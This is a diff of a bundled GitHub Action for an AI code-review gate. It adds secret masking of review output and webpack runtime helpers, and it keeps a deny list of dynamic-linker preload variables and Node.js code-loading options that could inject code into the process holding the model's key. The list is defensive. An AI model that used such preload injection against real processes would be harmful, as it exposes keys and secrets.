     const subject = await readSubject(request, ports);
-    const [audit, review] = await Promise.all([
+    const [{ audit, mask }, review] = await Promise.all([
         auditChange(subject, request, ports),
         reviewHead(subject, request, ports),
     ]);
-    return settle(subject, audit, review, ports);
+    const shown = {
+        ...review,
+        findings: review.findings.map(mask.finding),
+        summary: mask.text(review.summary),
+    };
+    return settle(subject, audit, shown, ports);
 }
 /** A verdict that people cannot see is no verdict: what could not be published makes the outcome inconclusive. */
 async function publish(outcome, { publisher, trail }) {
@@ -43779,15 +58231,22 @@ async function publish(outcome, { publisher, trail }) {
 
 
 
+
 /** The bundles that run as processes of their own lie beside this one, in dist/. */
-const DIST = (0,external_node_path_namespaceObject.join)(import.meta.dirname, '..', (0,external_node_path_namespaceObject.basename)(import.meta.dirname) === 'src' ? 'dist' : '.');
+const DIST = (0,external_node_path_.join)(import.meta.dirname, '..', (0,external_node_path_.basename)(import.meta.dirname) === 'src' ? 'dist' : '.');
 /** After an abort everything is over and published before the runner's second signal comes, at 7.5 s. */
 const GRACE_MS = 5_000;
 /** Runs the gate with the ordinary adapters. Never throws; ends within GRACE_MS of an abort even when a part hangs. */
 async function runGate(setting) {
     const repository = gitRepository({ ...setting.source, temporary: setting.state });
     const agent = agentOf(setting);
-    const published = gate_gate(requestOf(setting), { ...setting, repository, agent, hash: hash_hash });
+    const published = gate_gate(requestOf(setting), {
+        ...setting,
+        repository,
+        agent,
+        secrets: secretScanner(),
+        hash: hash_hash,
+    });
     try {
         return await Promise.race([published, afterGrace(setting)]);
     }
@@ -43871,7 +58330,7 @@ async function judgeEvent({ env, inputs, place, publisher, redact }) {
         refuseWithoutSandbox(inputs, event);
         return await runGate({
             inputs,
-            source: sourceOf(env, inputs, event),
+            source: judge_event_sourceOf(env, inputs, event),
             base: event.base ?? `refs/heads/${event.baseRef}`,
             head: event.head,
             againstNothing: false,
@@ -43893,7 +58352,7 @@ async function judgeEvent({ env, inputs, place, publisher, redact }) {
  * The checkout of the workspace; what it lacks is fetched from this server's repository, with the token that the
  * workflow gave us. Neither address comes from the repository's own configuration.
  */
-function sourceOf(env, inputs, { headRef }) {
+function judge_event_sourceOf(env, inputs, { headRef }) {
     const server = env['GITHUB_SERVER_URL'] ?? '';
     const name = env['GITHUB_REPOSITORY'] ?? '';
     const token = inputs['github-token'];
@@ -43914,12 +58373,12 @@ function sourceOf(env, inputs, { headRef }) {
 
 /** UTF-16 units of one string in an event: the trail tells what happened, it does not keep it. */
 const STRING_UNITS = 4_000;
-const trail_file_FLAGS = external_node_fs_namespaceObject.constants.O_WRONLY |
-    external_node_fs_namespaceObject.constants.O_CREAT |
-    external_node_fs_namespaceObject.constants.O_TRUNC |
-    external_node_fs_namespaceObject.constants.O_APPEND |
-    external_node_fs_namespaceObject.constants.O_NOFOLLOW |
-    external_node_fs_namespaceObject.constants.O_NONBLOCK;
+const trail_file_FLAGS = external_node_fs_.constants.O_WRONLY |
+    external_node_fs_.constants.O_CREAT |
+    external_node_fs_.constants.O_TRUNC |
+    external_node_fs_.constants.O_APPEND |
+    external_node_fs_.constants.O_NOFOLLOW |
+    external_node_fs_.constants.O_NONBLOCK;
 /**
  * The trail as a private JSON Lines file, begun anew. Each event is in the kernel's hands when `record` returns, so that a
  * run that is killed at any time leaves every line that was recorded. `record` throws GateError
@@ -43947,7 +58406,7 @@ function trailFile(path, redact = redactor([])) {
         },
         close() {
             if (open)
-                (0,external_node_fs_namespaceObject.closeSync)(fd);
+                (0,external_node_fs_.closeSync)(fd);
             open = false;
             if (failure !== null)
                 throw failure;
@@ -43957,11 +58416,11 @@ function trailFile(path, redact = redactor([])) {
 /** A link is not followed, a named pipe does not make the run wait. */
 function openTrail(path) {
     try {
-        const fd = (0,external_node_fs_namespaceObject.openSync)(path, trail_file_FLAGS, 0o600);
-        const stat = (0,external_node_fs_namespaceObject.fstatSync)(fd);
+        const fd = (0,external_node_fs_.openSync)(path, trail_file_FLAGS, 0o600);
+        const stat = (0,external_node_fs_.fstatSync)(fd);
         if (stat.isFile() || stat.isCharacterDevice())
             return fd;
-        (0,external_node_fs_namespaceObject.closeSync)(fd);
+        (0,external_node_fs_.closeSync)(fd);
     }
     catch (cause) {
         throw unwritable(errorCodeOf(cause), cause);
@@ -43998,13 +58457,13 @@ function capped(text) {
 
 /** Makes it below RUNNER_TEMP, which the runner empties after the job. Throws GateError `state-unwritable`. */
 function openPlace(env, redact) {
-    const reports = place_makeDirectory((0,external_node_path_namespaceObject.join)(env['RUNNER_TEMP'] || (0,external_node_os_namespaceObject.tmpdir)(), 'review-gate-'));
-    const state = place_makeDirectory((0,external_node_path_namespaceObject.join)(reports, 'state-'));
-    return { reports, state, trail: trailFile((0,external_node_path_namespaceObject.join)(reports, 'trail.jsonl'), redact) };
+    const reports = place_makeDirectory((0,external_node_path_.join)(env['RUNNER_TEMP'] || (0,external_node_os_namespaceObject.tmpdir)(), 'review-gate-'));
+    const state = place_makeDirectory((0,external_node_path_.join)(reports, 'state-'));
+    return { reports, state, trail: trailFile((0,external_node_path_.join)(reports, 'trail.jsonl'), redact) };
 }
 function place_makeDirectory(prefix) {
     try {
-        return (0,external_node_fs_namespaceObject.mkdtempSync)(prefix);
+        return (0,external_node_fs_.mkdtempSync)(prefix);
     }
     catch (cause) {
         const message = `No private directory can be made in RUNNER_TEMP (${errorCodeOf(cause)}); make it writable and free some disk space.`;
@@ -44017,14 +58476,14 @@ function place_makeDirectory(prefix) {
 /** Variables of the dynamic linker that load a library into every program. */
 const LIBRARIES = ['LD_PRELOAD', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES'];
 /** Node's options that run a module before ours, or let somebody else drive this process. */
-const LOADS_CODE = /(?:^|[\s"])(?:-r|--(?:require|import|loader|experimental-loader|inspect[a-z-]*))(?![a-z-])/u;
+const refuse_preloads_LOADS_CODE = /(?:^|[\s"])(?:-r|--(?:require|import|loader|experimental-loader|inspect[a-z-]*))(?![a-z-])/u;
 /**
  * An earlier step can leave variables by which its code runs inside this process, where the model's key is. Throws
  * GateError `input-invalid` for those: it cannot undo them, but nothing that such a process says may count.
  */
 function refusePreloads(env) {
     const names = LIBRARIES.filter((name) => (env[name] ?? '') !== '');
-    if (LOADS_CODE.test((env['NODE_OPTIONS'] ?? '').replaceAll('_', '-')))
+    if (refuse_preloads_LOADS_CODE.test((env['NODE_OPTIONS'] ?? '').replaceAll('_', '-')))
         names.push('NODE_OPTIONS');
     if (names.length === 0)
         return;
@@ -44071,7 +58530,7 @@ async function runAction(env) {
 
 /***/ }),
 
-/***/ 8579:
+/***/ 7377:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
@@ -44197,6 +58656,36 @@ function exitCodeOf(verdict) {
 /******/ 	};
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/create fake namespace object */
+/******/ (() => {
+/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
+/******/ 	var leafPrototypes;
+/******/ 	// create a fake namespace object
+/******/ 	// mode & 1: value is a module id, require it
+/******/ 	// mode & 2: merge all properties of value into the ns
+/******/ 	// mode & 4: return value when already ns object
+/******/ 	// mode & 16: return value when it's Promise-like
+/******/ 	// mode & 8|1: behave like require
+/******/ 	__nccwpck_require__.t = function(value, mode) {
+/******/ 		if(mode & 1) value = this(value);
+/******/ 		if(mode & 8) return value;
+/******/ 		if(typeof value === 'object' && value) {
+/******/ 			if((mode & 4) && value.__esModule) return value;
+/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
+/******/ 		}
+/******/ 		var ns = Object.create(null);
+/******/ 		__nccwpck_require__.r(ns);
+/******/ 		var def = {};
+/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
+/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
+/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
+/******/ 		}
+/******/ 		def['default'] = () => (value);
+/******/ 		__nccwpck_require__.d(ns, def);
+/******/ 		return ns;
+/******/ 	};
+/******/ })();
+/******/ 
 /******/ /* webpack/runtime/define property getters */
 /******/ (() => {
 /******/ 	// define getter functions for harmony exports
@@ -44214,11 +58703,22 @@ function exitCodeOf(verdict) {
 /******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/make namespace object */
+/******/ (() => {
+/******/ 	// define __esModule on exports
+/******/ 	__nccwpck_require__.r = (exports) => {
+/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 		}
+/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 	};
+/******/ })();
+/******/ 
 /************************************************************************/
 /******/ 
 /******/ // startup
 /******/ // Load entry module and return exports
 /******/ // This entry module used 'module' so it can't be inlined
-/******/ var __webpack_exports__ = __nccwpck_require__(9479);
+/******/ var __webpack_exports__ = __nccwpck_require__(1321);
 /******/ __webpack_exports__ = await __webpack_exports__;
 /******/ 
